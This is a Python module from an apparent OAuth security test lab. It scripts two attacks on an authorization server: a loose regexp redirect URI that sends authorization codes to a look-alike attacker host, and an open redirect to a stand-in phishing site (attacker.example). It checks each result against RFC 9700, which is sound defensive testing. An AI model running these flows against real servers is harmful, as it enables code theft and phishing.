"""Attack 2: redirect URI manipulation and the authorization server as open redirector.

RFC 9700 2.1: "When comparing client redirection URIs against pre-registered
URIs, authorization servers MUST utilize exact string matching". WSO2 lets a
callback be a regular expression (`regexp=...`); a loose one such as
`regexp=https://client.example.com.*` also matches
`https://client.example.com.evil.test/cb`, a host anyone can buy. Lab switch:
`regexp_redirect_uris`.

RFC 9700 4.11.2 and RFC 6749 4.1.2.1: a request with a redirect URI that is not
registered gets an error page, never a redirect, or the server becomes an open
redirector for phishing links that start at a trusted host. Lab switch:
`open_redirect`.
"""

from __future__ import annotations

from urllib.parse import urlsplit

from ..client import OAuthResponseError
from ..server.switches import SWITCHES
from ._steps import answered, authorization_url, params_of
from .registry import attack_on
from .result import AttackResult, Unsupported
from .scenario import TargetLike, as_target, evil_twin, refused

LOOSE_PATTERN = "regexp=https://client.example.com.*"  # the dots match any character
ATTACKER_SITE = "https://attacker.example/phish"


def _same_host(url: str | None, other: str) -> bool:
    return url is not None and urlsplit(url).hostname == urlsplit(other).hostname


@attack_on("regexp_redirect_uris")
def regexp_redirect(target: TargetLike) -> AttackResult:
    """The attacker's link carries the client's id and a look-alike redirect_uri."""
    t = as_target(target)
    steps: list[str] = []
    evil = evil_twin(t.redirect_uri)
    try:
        app = t.register(redirect_uris=[LOOSE_PATTERN])
        registered = f"registering the callback {LOOSE_PATTERN} was accepted"
    except OAuthResponseError as exc:
        registered = f"registering the callback {LOOSE_PATTERN} was refused ({refused(exc)})"
        app = t.register()
        registered += f", so the client uses {app.redirect_uri} exactly"
    except Unsupported as exc:
        # no registration endpoint: nothing was refused, the pattern could not be tried
        registered = f"registering the callback {LOOSE_PATTERN} could not be tried ({exc})"
        app = t.register()
        registered += f", so the client uses {app.redirect_uri} exactly"
    steps.append(f"the developer tries it: {registered}")
    link = authorization_url(t, app, redirect_uri=evil)
    steps.append(f"the attacker sends {t.victim.username} a link with redirect_uri={evil}")
    with t.browser(stop_at=evil) as browser:
        page = answered(browser, link, t.victim)
    code = params_of(page.location).get("code") if _same_host(page.location, evil) else None
    succeeded = code is not None
    steps.append(f"the server answers: {page.describe()}")
    evidence: dict[str, object] = {"server answered": f"{page.status} {page.reason}"}
    if succeeded:
        evidence["code at the attacker's host"] = code
        what = (
            f"The code went to {urlsplit(evil).hostname}, the attacker's host: the loose "
            "pattern matched it, and the attacker can now inject the code (section 4)."
        )
        reason = (
            f"{registered.capitalize()}; the link with redirect_uri={evil} sent the code to "
            f"the attacker's host: {page.location}"
        )
    else:
        evidence["page"] = page.title or page.kind
        what = (
            f"The look-alike redirect URI was refused, and no code left the server. {page.message}"
        )
        reason = (
            f"{registered.capitalize()}; the link with redirect_uri={evil} got no code there: "
            f"{page.describe()}"
        )
    return AttackResult(
        "Redirect URI manipulation (regexp=)",
        succeeded,
        what,
        SWITCHES["regexp_redirect_uris"].source,
        "Redirect URIs are compared with the registered ones by exact string matching.",
        tuple(steps),
        evidence,
        reason,
    )


@attack_on("open_redirect")
def open_redirector(target: TargetLike) -> AttackResult:
    """A phishing link: the trusted server's authorize URL, bouncing to the attacker's site."""
    t = as_target(target)
    app = t.register()
    link = authorization_url(t, app, redirect_uri=ATTACKER_SITE)
    steps = [f"the attacker mails a link that starts at the trusted server: {link}"]
    with t.browser(stop_at=ATTACKER_SITE) as browser:
        # a server that asks the victim to sign in first checks the request after it
        page = answered(browser, link, t.victim)
    succeeded = page.kind == "redirect" and _same_host(page.location, ATTACKER_SITE)
    steps.append(f"the victim clicks it; the server answers {page.status} {page.reason}")
    evidence: dict[str, object] = {"server answered": f"{page.status} {page.reason}"}
    hops = f" after {len(page.hops)} redirect(s) on the server" if page.hops else ""
    if succeeded:
        evidence["Location"] = page.location
        what = (
            f"The server sent the browser on to {ATTACKER_SITE}: a link that starts at the "
            "trusted server ends on the attacker's phishing page."
        )
        reason = (
            f"The link with the unregistered redirect_uri={ATTACKER_SITE} was answered{hops} "
            f"with a redirect to the attacker's site: {page.location}"
        )
    else:
        evidence["page"] = page.title or page.kind
        what = (
            "The server showed an error page and sent the browser nowhere, because the "
            "redirect URI is not registered."
            if page.kind == "error page"
            else "The server did not send the browser to the attacker's site."
        )
        reason = (
            f"The link with the unregistered redirect_uri={ATTACKER_SITE} was answered{hops}, "
            f"without going there: {page.describe()}"
        )
    return AttackResult(
        "Open redirector",
        succeeded,
        what,
        SWITCHES["open_redirect"].source,
        "A bad client_id or redirect_uri gets an error page, never a redirect.",
        tuple(steps),
        evidence,
        reason,
    )
